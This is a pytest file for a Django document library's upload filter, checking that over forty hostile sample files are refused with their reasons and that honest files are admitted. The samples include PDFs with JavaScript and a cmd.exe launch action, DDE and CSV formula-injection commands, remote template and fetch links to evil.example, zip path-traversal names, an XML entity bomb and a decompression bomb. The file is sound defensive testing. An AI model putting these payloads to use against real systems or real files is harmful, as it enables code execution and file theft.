import gzip
import io
import stat
import tarfile
import warnings
import zipfile

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, Stream, String

from coalition.core.models import AuditEntry
from coalition.core.office_intake import container
from coalition.core.pdf_intake import FileRefused
from resources.library.files.models import Upload
from resources.library.files.services import admit_upload, upload_file
from resources.library.files.taking import take
from resources.library.models import Version
from tests import factories
from tests.resources.factories import changed, make_document, make_pdf, make_upload
from tests.resources.library.office_files import P, document, office, packed, rels, sheet, types

PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
MAIL = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: Hello\r\nDate: Mon, 1 Jan 2026 10:00:00 +0000\r\n\r\nWords"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def ole(name):
    return OLE + name.encode("utf-16-le") + bytes(100)


def tar():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as opened:
        opened.addfile(tarfile.TarInfo("a.txt"))
    return out.getvalue()


def encrypted_pdf():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(user="x", owner="y"))
    return out.getvalue()


def acting(where):
    """A PDF that does something on opening, on a page, or on a click."""

    def act(pdf):
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        if where == "OpenAction":
            pdf.Root.OpenAction = script
        elif where == "AA":
            pdf.pages[0].obj.AA = Dictionary(O=script)
        else:
            launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
            pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=launch)])

    return changed(make_pdf(), act)


def named_script():
    def act(pdf):
        script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    return changed(make_pdf(), act)


def field_script():
    def act(pdf):
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        widget = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), A=script)
        )
        pdf.pages[0].Annots = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))

    return changed(make_pdf(), act)


def bomb():
    return office(parts={"word/media.xml": b"<a>" + b" " * 30_000_000 + b"</a>"})


def member(name, content=b"<a/>", *, mode=0):
    """An office file with one member more, whose name or kind no honest program writes."""
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as opened:
        info = zipfile.ZipInfo("placeholder.xml")
        info.external_attr = mode << 16
        opened.writestr(info, content)
    return out.getvalue().replace(b"placeholder.xml", name.encode().ljust(15, b"x")[:15])


def twice():
    out = io.BytesIO(office())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as opened:
        warnings.simplefilter("ignore")
        opened.writestr("word/document.xml", "<a/>")
    return out.getvalue()


def entities():
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{lines}]><w:document xmlns:w="x">&a9;</w:document>'


def outside(kind, target, *, of="docx", part="word/_rels/document.xml.rels"):
    return office(of, parts={part: rels((kind, target), outside=True)})


def field(words):
    return office(body=document(f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"))


def cell(formula):
    return office("xlsx", parts={"xl/worksheets/sheet1.xml": sheet(f"<f>{formula}</f>")})


def slide(inner):
    return office("pptx", parts={"ppt/slides/slide1.xml": f"<p:sld {P}>{inner}</p:sld>"})


HOSTILE = {
    "png called pdf": ("a.pdf", PNG, "a PNG picture"),
    "png called docx": ("a.docx", PNG, "a PNG picture"),
    "png called csv": ("a.csv", PNG, "a PNG picture"),
    "jpeg": ("a.txt", b"\xff\xd8\xff\xe0" + bytes(64), "a JPEG picture"),
    "gif and pdf in one": ("a.pdf", b"GIF89a;" + make_pdf(), "a GIF picture"),
    "bmp": ("a.txt", b"BM\x46\x00\x00\x00" + bytes(64), "a bitmap picture"),
    "webp": ("a.pdf", b"RIFF\x10\x00\x00\x00WEBPVP8 " + bytes(64), "a WebP picture"),
    "tiff": ("a.pdf", b"II*\x00" + bytes(64), "a TIFF picture"),
    "heic": ("a.pdf", b"\x00\x00\x00\x18ftypheic" + bytes(64), "a HEIC picture"),
    "avif": ("a.pdf", b"\x00\x00\x00\x18ftypavif" + bytes(64), "an AVIF picture"),
    "svg": ("a.txt", b"<?xml version='1.0'?><svg xmlns='x'/>", "an SVG picture"),
    "mp4": ("a.pdf", b"\x00\x00\x00\x18ftypmp42" + bytes(64), "MP4"),
    "mkv": ("a.pdf", b"\x1aE\xdf\xa3" + bytes(64), "Matroska"),
    "avi": ("a.pdf", b"RIFF\x10\x00\x00\x00AVI LIST" + bytes(64), "AVI"),
    "mp3": ("a.txt", b"ID3\x04\x00" + bytes(64), "a sound file"),
    "zip": ("a.docx", packed({"a.txt": "words"}), "a ZIP archive"),
    "7z": ("a.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(64), "a 7-Zip archive"),
    "rar": ("a.pdf", b"Rar!\x1a\x07\x01\x00" + bytes(64), "a RAR archive"),
    "tar": ("a.txt", tar(), "a TAR archive"),
    "gzip": ("a.csv", gzip.compress(b"a,b\n"), "a gzip archive"),
    "xz": ("a.csv", b"\xfd7zXZ\x00" + bytes(64), "an xz archive"),
    "mail": ("a.txt", MAIL, "a mail"),
    "mailbox": ("a.txt", b"From x Mon\nFrom: x\nTo: y\n\nwords", "a mailbox"),
    "outlook mail": ("a.docx", ole("__substg1.0_0037001F"), "an Outlook mail"),
    "old word": ("a.docx", ole("WordDocument"), "an old Word file"),
    "office behind a password": ("a.docx", ole("EncryptedPackage"), "protected with a password"),
    "program": ("a.pdf", b"MZ\x90\x00" + bytes(64), "a program"),
    "script": ("a.txt", b"#!/bin/sh\nrm\n", "a script"),
    "web page called txt": ("a.txt", b" <html><script>alert(1)</script></html>", "a web page"),
    "web page further down": ("a.txt", b"words\n<script src=x></script>\n", "a web page"),
    "rtf": ("a.txt", b"{\\rtf1 words}", "an RTF text"),
    "empty": ("a.txt", b"", "empty"),
    "nul in text": ("a.txt", b"words\x00words", "bytes that no text has"),
    "latin text": ("a.csv", "naïve,café\n".encode("latin-1"), "not text in UTF-8"),
    "data address": ("a.csv", b"a,data:image/png;base64,iVBORw0KGgo=\n", "a file written as text"),
    "encoded block": ("a.txt", b"iVBORw0KGgo" * 500, "a long block of encoded data"),
    "uuencoded": ("a.txt", b"begin 644 a.png\nM...\nend\n", "a long block of encoded data"),
    "formula in csv": ("a.csv", b"a,b\n=cmd|' /C calc'!A0,2\n", "start a program"),
    "pdf behind a password": ("a.pdf", encrypted_pdf(), "Remove the protection"),
    "pdf cut off": ("a.pdf", make_pdf()[:600], "damaged"),
    "pdf with script on opening": ("a.pdf", acting("OpenAction"), "holds JavaScript"),
    "pdf with script by name": ("a.pdf", named_script(), "holds JavaScript"),
    "pdf with script on a page": ("a.pdf", acting("AA"), "holds JavaScript"),
    "pdf with script in a field": ("a.pdf", field_script(), "holds JavaScript"),
    "pdf that starts a program": ("a.pdf", acting("Annots"), "holds actions that start programs"),
    "pdf behind words": ("a.pdf", b"words " + make_pdf(), "stands before the PDF"),
    "zip behind a pdf": ("a.docx", make_pdf() + packed({"a": "b"}), "it is a PDF"),
    "pdf behind a document": ("a.docx", office() + make_pdf(), "before or after the document"),
    "picture before a document": ("a.docx", b"GIF89a" + office(), "a GIF picture"),
    "pdf called docx": ("a.docx", make_pdf(), "is called .docx, but it is a PDF"),
    "macro": ("a.docx", office(parts={"word/vbaProject.bin": ole("VBA")}), "holds macros"),
    "macro by content type": ("a.docx", office(content_type=MACRO_TYPE), "holds macros"),
    "macro by relation": (
        "a.xlsx",
        office("xlsx", parts={"xl/_rels/workbook.xml.rels": rels(("vbaProject", "innocent.xml"))}),
        "holds macros",
    ),
    "embedded object": ("a.docx", office(parts={"word/embeddings/oleObject1.bin": OLE}), "embedded object"),
    "embedded package": (
        "a.pptx",
        office("pptx", parts={"ppt/embeddings/a.xlsx": office("xlsx")}),
        "embedded object",
    ),
    "activex": ("a.docx", office(parts={"word/activeX/activeX1.xml": "<a/>"}), "ActiveX"),
    "remote template": (
        "a.docx",
        outside("attachedTemplate", "http://evil.example/t.dotm"),
        "loads its template",
    ),
    "remote picture": (
        "a.docx",
        outside("image", "http://evil.example/p.png"),
        "a picture that lies elsewhere",
    ),
    "remote frame": ("a.docx", outside("frame", "http://evil.example/"), "Only plain links"),
    "link to a file": ("a.docx", outside("hyperlink", "file://server/share"), "Only plain links"),
    "other workbook": (
        "a.xlsx",
        outside("externalLinkPath", "file:///c:/x.xlsx", of="xlsx", part="xl/_rels/workbook.xml.rels"),
        "another workbook",
    ),
    "connections": (
        "a.xlsx",
        office("xlsx", parts={"xl/connections.xml": "<a/>"}),
        "fetches data from elsewhere",
    ),
    "dde field": ("a.docx", field(' DDEAUTO c:\\\\cmd "/k calc"'), "DDE"),
    "fetching field": ("a.docx", field(' INCLUDEPICTURE "http://evil.example/x"'), "fetches something"),
    "dde formula": ("a.xlsx", cell("cmd|'/c calc'!A1"), "DDE"),
    "fetching formula": ("a.xlsx", cell('WEBSERVICE("http://evil.example")'), "fetches something"),
    "action on a slide": (
        "a.pptx",
        slide('<a:hlinkClick action="ppaction://program"/>'),
        "starts a program or a macro",
    ),
    "video in a slide": (
        "a.pptx",
        office("pptx", parts={"ppt/media/a.mp4": b"\0\0\0\x18ftypmp42"}),
        "a video file",
    ),
    "picture that is none": (
        "a.docx",
        office(parts={"word/media/a.png": b"words"}),
        "is called a picture and is none",
    ),
    "script in a drawing": (
        "a.docx",
        office(parts={"word/media/a.svg": "<svg><script>x</script></svg>"}),
        "holds a script",
    ),
    "archive inside": (
        "a.docx",
        office(parts={"word/media/a.bin": packed({"a": "b"})}),
        "an archive or another",
    ),
    "bomb": ("a.docx", bomb(), "far larger on opening"),
    "entities": ("a.docx", office(body=entities()), "entities"),
    "path out of the file": ("a.docx", member("../../../etc/pa"), "lead out of the file"),
    "absolute path": ("a.docx", member("/etc/passwd.xml"), "lead out of the file"),
    "windows path": ("a.docx", member("C:\\windows\\a.xm"), "lead out of the file"),
    "link for a part": (
        "a.docx",
        member("word/linked.xml", mode=stat.S_IFLNK | 0o777),
        "link to a file elsewhere",
    ),
    "part twice": ("a.docx", twice(), "two parts of the same name"),
    "template": ("a.docx", office(content_type="application/x.template.main+xml"), "a template"),
    "opendocument": (
        "a.docx",
        packed({"mimetype": "application/vnd.oasis.opendocument.text"}),
        "an OpenDocument file",
    ),
    "broken xml": ("a.docx", office(body="<w:document"), "damaged"),
    "two kinds of office": (
        "a.docx",
        office(parts={"[Content_Types].xml": types("a.xml", "application/x")}),
        "a ZIP archive",
    ),
}


@pytest.fixture(autouse=True)
def storage(settings):
    settings.STORAGES = settings.STORAGES | {
        "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"}
    }


@pytest.fixture
def chair():
    return factories.make_person(factories.make_company("Aurora"))


@pytest.fixture
def draft(chair):
    return make_document(chair, factories.make_group(chair=chair), publish=False)


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_its_own_reason(what):
    name, data, words = HOSTILE[what]
    with pytest.raises(FileRefused, match=words):
        take(io.BytesIO(data), name=name, size=len(data))


@pytest.mark.django_db
def test_of_more_than_forty_hostile_files_none_is_stored_and_each_leaves_its_digest(chair, draft):
    assert len(HOSTILE) > 40
    for name, data, _words in HOSTILE.values():
        with pytest.raises(FileRefused):
            make_upload(chair, draft, data, name)
    assert not Upload.objects.exists()
    assert default_storage.listdir("") == ([], [])
    assert Version.objects.get().file.name == ""
    details = AuditEntry.objects.filter(action="library.file_refused").values_list("detail", flat=True)
    assert len(details) == len(HOSTILE)
    assert all(len(detail["sha256"]) == 64 and detail["reason"] for detail in details)


@pytest.mark.django_db
def test_a_refusal_stands_beside_the_field_and_a_file_over_the_limit_is_refused(
    client, chair, draft, settings
):
    client.force_login(chair)
    url = reverse("resources:document-upload", args=[draft.pk])
    settings.LIBRARY_FILE_MB = 1
    for data, words in ((b"x" * 1_100_000, "1 MB at most"), (b"", "empty"), (PNG, "a PNG picture")):
        sent = {"file": SimpleUploadedFile("notes.txt", data), "depicts_nobody": "on"}
        answer = client.post(url, sent)
        assert words in str(answer.context["file_form"].errors["file"])
    assert not Upload.objects.exists()


@pytest.mark.django_db
def test_too_many_parts_are_refused(chair, draft, monkeypatch):
    monkeypatch.setattr(container, "MOST_MEMBERS", 5)
    with pytest.raises(FileRefused, match="holds more than"):
        make_upload(chair, draft, office(parts={f"word/a{n}.xml": "<a/>" for n in range(5)}), "a.docx")


@pytest.mark.django_db
def test_what_acts_in_a_pdf_is_taken_out_and_named(chair, draft):
    def act(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<x/>"))
        pdf.attachments["a.exe"] = b"MZ"
        away = Dictionary(S=Name.GoToR, F=String("other.pdf"))
        pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=away)])

    upload = make_upload(chair, draft, changed(make_pdf(), act), "a.pdf")
    assert {"an XFA form", "attached files", "links into other files", "an action on opening"} <= set(
        upload.removed
    )
    with upload.file.open("rb") as kept:
        data = kept.read()
    assert not any(word in data for word in (b"other.pdf", b"/GoToR", b"a.exe"))


HONEST = {
    "docx": ("a.docx", lambda: office(parts={"word/media/a.png": PNG}), 1),
    "docx with a web link": ("a.docx", lambda: outside("hyperlink", "https://coalition.example/x"), 0),
    "xlsx": ("a.xlsx", lambda: cell("SUM(A1:A3)&amp;IF(B1,&quot;|&quot;,1)"), 0),
    "pptx": ("a.pptx", lambda: office("pptx"), 0),
    "csv": ("a.csv", lambda: b"hash,count\n" + b"\n".join(b"%064x,1" % n for n in range(300)), 0),
    "wide text": ("a.txt", lambda: "Wörter — 言葉\n".encode("utf-16"), 0),
    "text with a sum": ("a.txt", lambda: b"a < b; x = y | z\nBMW is no picture, MZ no program\n", 0),
}


@pytest.mark.django_db
@pytest.mark.parametrize("what", HONEST)
def test_an_honest_file_waits_and_is_admitted_once(what, chair, draft):
    name, make, figures = HONEST[what]
    upload = make_upload(chair, draft, make(), name)
    assert (upload.state, upload.figures) == ("waiting", figures)
    assert make_upload(chair, draft, make(), name) == upload  # posted twice, kept once
    assert Version.objects.get().format == "md"
    admit_upload(upload=upload)
    assert admit_upload(upload=upload) is None
    version = Version.objects.get()
    assert (version.format, version.sha256) == (upload.format, upload.sha256)


@pytest.mark.django_db
def test_a_sealed_document_admits_nothing(chair, draft):
    upload = make_upload(chair, draft)
    type(draft).objects.update(sealed_at=draft.created_at)
    assert admit_upload(upload=upload) is None
    assert Version.objects.get().format == "md"


@pytest.mark.django_db
def test_somebody_who_may_not_edit_sends_nothing(draft):
    other = factories.make_person(factories.make_company("Birch"))
    with pytest.raises(Exception, match="changed by its owner"):
        upload_file(
            by=other, document=draft, file=io.BytesIO(b"x"), name="a.txt", size=1, depicts_nobody=True
        )
